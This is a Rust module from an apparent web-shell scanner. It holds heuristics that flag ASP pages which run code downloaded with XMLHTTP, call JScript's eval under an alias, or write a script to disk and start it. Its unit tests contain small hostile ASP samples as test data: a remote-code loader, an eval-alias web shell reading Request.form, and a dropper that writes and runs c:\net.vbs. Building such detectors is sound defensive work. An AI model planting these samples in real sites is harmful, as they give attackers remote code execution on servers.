//! What ASP shells do besides evaluating the request: run code fetched from a URL, keep
//! JScript's `eval` under another name, and write a script or program to disk and start it.

use crate::Hit;
use crate::flows::{EVALUATE, evaluations, is_ident};
use crate::heuristics::{find, find_all, near};
use firewarden_model::Severity;

/// ASP evaluating code from somewhere it should not.
fn hit(title: &str, why: String, offset: usize) -> Hit {
    crate::heuristics::hit(
        "scan.heuristic.asp_eval",
        Severity::Critical,
        title,
        why,
        offset,
    )
}

/// The checks of this module; `t` is the lowercased page.
pub(crate) fn scan(t: &str, hits: &mut Vec<Hit>) {
    if hits.iter().any(|h| h.check == "scan.heuristic.asp_eval") {
        return;
    }
    if (find(t, "xmlhttp").is_some() || find(t, "winhttp").is_some())
        && let Some(h) = remote_code(t)
    {
        hits.push(h);
        return;
    }
    if find(t, "request").is_some()
        && let Some(h) = eval_alias(t)
    {
        hits.push(h);
        return;
    }
    if let Some(h) = dropped_and_run(t) {
        hits.push(h);
    }
}

/// The identifier at the start of `s`.
fn ident(s: &str) -> &str {
    &s[..s.find(|c: char| !is_ident(c)).unwrap_or(s.len())]
}

/// `aspCode = GetPage(url)` … `Execute aspCode`, where `GetPage` returns what an XMLHTTP
/// request fetched: code from a URL, run on every request (and changed at will on the remote
/// server). Pages fetch feeds and weather this way; they show them, they do not run them.
/// Called only for pages that name XMLHTTP or WinHTTP.
fn remote_code(t: &str) -> Option<Hit> {
    // The page's functions that return a download: the body holds the HTTP object and
    // hands back its response.
    let mut fetchers: Vec<&str> = Vec::new();
    for at in find_all(t, "function ").take(500) {
        if t[..at].ends_with(|c: char| is_ident(c) || c == '.') || t[..at].ends_with("end ") {
            continue;
        }
        let name = ident(&t[at + "function ".len()..]);
        let rest = near(&t[at + "function ".len() + name.len()..], 16 << 10);
        let body = &rest[..find(rest, "end function").unwrap_or(rest.len())];
        if !name.is_empty()
            && (body.contains("xmlhttp") || body.contains("winhttp"))
            && (body.contains("responsetext") || body.contains("responsebody"))
            && fetchers.len() < 16
        {
            fetchers.push(name);
        }
    }
    // Variables that hold a download: `x = GetPage(…)`, `x = http.responseText`.
    let mut fetched: Vec<&str> = Vec::new();
    for line in t.lines() {
        let line = line.trim_start();
        let line = line.strip_prefix("set ").unwrap_or(line);
        let var = ident(line);
        let Some(rhs) = line[var.len()..].trim_start().strip_prefix('=') else {
            continue;
        };
        let rhs = rhs.trim_start();
        let called = ident(rhs);
        let from_fetcher = !called.is_empty()
            && called != var
            && fetchers.contains(&called)
            && rhs[called.len()..].trim_start().starts_with('(');
        let response = rhs[called.len()..].starts_with(".responsetext")
            || rhs[called.len()..].starts_with(".responsebody");
        if !var.is_empty() && (from_fetcher || response) && fetched.len() < 64 {
            fetched.push(var);
        }
    }
    for (at, run, arg) in evaluations(t, EVALUATE.iter().copied()) {
        let name = ident(arg);
        let call = arg[name.len()..].trim_start().starts_with('(');
        let what = if call && fetchers.contains(&name) {
            format!("`{run}` runs what `{name}()` returns, and `{name}` downloads it with XMLHTTP")
        } else if !call && fetched.contains(&name) {
            format!("`{run} {name}` runs text downloaded over HTTP (XMLHTTP) into `{name}`")
        } else if !call
            && !name.is_empty()
            && [".responsetext", ".responsebody"]
                .iter()
                .any(|r| arg[name.len()..].starts_with(r))
        {
            format!(
                "`{run} {name}.responseText` runs the text an HTTP request (XMLHTTP) downloaded"
            )
        } else {
            continue;
        };
        return Some(hit(
            "ASP runs code downloaded from a URL",
            format!(
                "{what}: the code lives on a remote server, changes at will and never touches this disk"
            ),
            at,
        ));
    }
    None
}

/// `var f = {'E': eval}; … f.E(Request.Form('z'))`, `var e = eval;`: JScript's `eval` kept
/// under another name, so that no `eval(` call is seen near the request. Code calls eval;
/// it has no reason to store it.
fn eval_alias(t: &str) -> Option<Hit> {
    for at in find_all(t, "eval").take(1000) {
        let before = t[..at].trim_end_matches([' ', '\t']);
        let after = t[at + 4..].trim_start_matches([' ', '\t']);
        if t[..at].ends_with(|c: char| is_ident(c) || c == '.' || c == '"' || c == '\'')
            || t[at + 4..].starts_with(is_ident)
        {
            continue;
        }
        let stored = before.ends_with(['=', ':', ',', '['])
            && !before.ends_with("==")
            && !before.ends_with("!=")
            && after.starts_with([',', ';', '}', ']', '\r', '\n']);
        if stored {
            return Some(hit(
                "ASP keeps JScript's eval under another name",
                "the page stores `eval` itself in a variable, object or array (`{'E': eval}`) and reads the request: it evaluates code through the new name, out of sight of a search for `eval(`".into(),
                at,
            ));
        }
    }
    None
}

/// Files a page may save, by extension, that Windows runs when started.
const RUNNABLE: &[&str] = &[
    ".vbs", ".js", ".bat", ".cmd", ".exe", ".ps1", ".hta", ".wsf", ".com", ".scr",
];

/// `CreateTextFile("c:\net.vbs")` … `WshShell.Run "c:\net.vbs"`: the page writes a script or
/// program and starts it. Pages that run a tool run one already installed.
fn dropped_and_run(t: &str) -> Option<Hit> {
    let mut saved: Vec<&str> = Vec::new();
    for mark in ["createtextfile", "savetofile", "opentextfile"] {
        for at in find_all(t, mark).take(200) {
            let arg = near(t[at + mark.len()..].trim_start_matches([' ', '(']), 512);
            if let Some(path) = arg.strip_prefix('"').and_then(|a| a.split('"').next())
                && RUNNABLE.iter().any(|e| path.ends_with(e))
                && saved.len() < 32
            {
                saved.push(path);
            }
        }
    }
    if saved.is_empty() {
        return None;
    }
    for mark in [".run", ".exec", ".shellexecute"] {
        for at in find_all(t, mark).take(200) {
            if t[at + mark.len()..].starts_with(is_ident) {
                continue;
            }
            let arg = near(t[at + mark.len()..].trim_start_matches([' ', '(']), 512);
            let Some(command) = arg.strip_prefix('"').and_then(|a| a.split('"').next()) else {
                continue;
            };
            if let Some(path) = saved.iter().find(|p| {
                command
                    .split(' ')
                    .any(|w| w == **p || w.trim_matches('\'') == **p)
            }) {
                let mut h = crate::heuristics::hit(
                    "scan.heuristic.asp_page_drop",
                    Severity::High,
                    "ASP writes a script or program and runs it",
                    format!(
                        "the page saves `{path}` and then starts it through the shell: a dropper that plants and runs its next stage"
                    ),
                    at,
                );
                h.attack.push("T1105".into());
                return Some(h);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(page: &str) -> Vec<&'static str> {
        crate::lowered_ids(scan, page)
    }

    #[test]
    fn code_downloaded_and_run() {
        let loader = "<%\nfunction GetPage(url)\nset h = server.createobject(\"MSXML2.ServerXMLHTTP\")\nh.open \"GET\", url, false\nh.send\nGetPage = h.responseText\nend function\naspCode = GetPage(\"http://x.example/a.jpg\")\nexecute aspCode\n%>";
        assert_eq!(ids(loader), ["scan.heuristic.asp_eval"]);
        let direct = "<%\nset h = server.createobject(\"Microsoft.XMLHTTP\")\nh.open \"GET\", u, false\nh.send\ncode = h.responseText\nExecuteGlobal code\n%>";
        assert_eq!(ids(direct), ["scan.heuristic.asp_eval"]);
        // A feed shown on the page, and a database call named execute.
        let feed = "<%\nfunction GetPage(url)\nset h = server.createobject(\"MSXML2.ServerXMLHTTP\")\nh.send\nGetPage = h.responseText\nend function\nnews = GetPage(\"http://x.example/rss\")\nresponse.write news\nconn.execute news\n%>";
        assert!(ids(feed).is_empty());
    }

    #[test]
    fn response_of_a_download_run_in_place() {
        let page = "<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"GET\", Request(\"u\"), False\nx.Send\nExecute x.ResponseText\n%>";
        assert_eq!(ids(page), ["scan.heuristic.asp_eval"]);
        let shown = "<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Send\nResponse.Write x.ResponseText\n%>";
        assert!(ids(shown).is_empty());
    }

    #[test]
    fn many_evaluations_read_the_page_once() {
        // Each `Execute x.y` searched the whole page for XMLHTTP, named here only at its end.
        let page = format!("<%{}\n' msxml2.xmlhttp%>", "\nexecute x.y".repeat(200_000));
        assert!(ids(&page).is_empty());
    }

    #[test]
    fn eval_kept_under_another_name() {
        let shell = "<script runat=server language=javascript>\nvar Sp = Request.form('z');\nvar Fla = {'E' : eval};\nFla.E(Sp+'');\n</script>";
        assert_eq!(ids(shell), ["scan.heuristic.asp_eval"]);
        let plain = "<script runat=server language=javascript>\nvar x = Request.form('z');\nvar evaluated = 1;\nif (mode == eval) {}\nvar s = 'eval';\n</script>";
        assert!(ids(plain).is_empty());
    }

    #[test]
    fn scripts_written_and_started() {
        let dropper = "<%\nset f = fso.CreateTextFile(\"c:\\net.vbs\", True)\nf.write \"x\"\nf.close\nset w = CreateObject(\"WScript.Shell\")\nw.Run \"c:\\net.vbs\", 0, false\n%>";
        assert_eq!(ids(dropper), ["scan.heuristic.asp_page_drop"]);
        // A converter run on an installed tool, and a script written but not run.
        let tool = "<%\nset w = server.CreateObject(\"Wscript.Shell\")\nw.Run \"c:\\ffmpeg\\ffmpeg.exe -i a.avi a.flv\", 0, true\nset f = fso.CreateTextFile(\"c:\\site\\log.txt\")\n%>";
        assert!(ids(tool).is_empty());
        let kept =
            "<%\nset f = fso.CreateTextFile(\"c:\\jobs\\nightly.bat\")\nf.write \"backup\"\n%>";
        assert!(ids(kept).is_empty());
    }

    #[test]
    fn hostile_text_is_safe() {
        for page in [
            "function ",
            "function x",
            "eval",
            "=eval",
            "execute",
            "createtextfile(\"a.vbs",
            ".run \"",
            "é function é end function eval é",
        ] {
            ids(page);
        }
    }
}
